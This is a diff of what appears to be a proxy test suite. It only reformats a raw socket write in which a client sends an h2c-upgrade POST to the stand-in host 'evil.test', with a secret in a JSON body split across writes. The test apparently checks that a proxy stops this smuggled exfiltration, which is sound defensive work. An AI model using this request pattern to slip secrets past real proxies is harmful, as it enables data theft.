@@ -76,7 +76,19 @@ describe("a raw client: the body split across writes, keep-alive after the downg
     const conn = await B.tunnel("evil.test");
     const mark = B.upstream.wire.length;
     const body = `{"k":"${B.secret}"}`;
-    conn.socket.write(["POST /c HTTP/1.1", "Host: evil.test", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA", "Content-Type: application/json", `Content-Length: ${body.length}`, "", body.slice(0, 10)].join("\r\n"));
+    conn.socket.write(
+      [
+        "POST /c HTTP/1.1",
+        "Host: evil.test",
+        "Connection: Upgrade, HTTP2-Settings",
+        "Upgrade: h2c",
+        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
+        "Content-Type: application/json",
+        `Content-Length: ${body.length}`,
+        "",
+        body.slice(0, 10),
+      ].join("\r\n"),
+    );
     await Bun.sleep(100);
     conn.socket.write(body.slice(10));
     const { readResponse } = await import("../support/proxy-client.ts");
